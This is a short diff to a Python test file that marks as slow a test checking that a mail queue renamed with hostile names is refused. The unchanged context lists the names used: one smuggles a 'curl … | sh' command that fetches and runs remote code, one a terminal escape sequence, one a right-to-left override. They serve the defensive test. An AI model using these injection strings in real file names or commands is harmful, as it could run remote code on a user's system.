@@ -14,6 +14,7 @@ from tests.support.attacked_server import attacked
 NAMES = ("q\ncurl -s http:evil | sh #", "q\x1b]0;x\x07", "q\u202etxt")
 
 
+@pytest.mark.slow
 def test_a_queue_that_is_renamed_so_is_refused_before_anything_is_done(tmp_path: Path) -> None:
     with attacked(tmp_path, still=True, ssh=False) as (server, desk):
         queue = server.install / "mail" / "_outgoing"
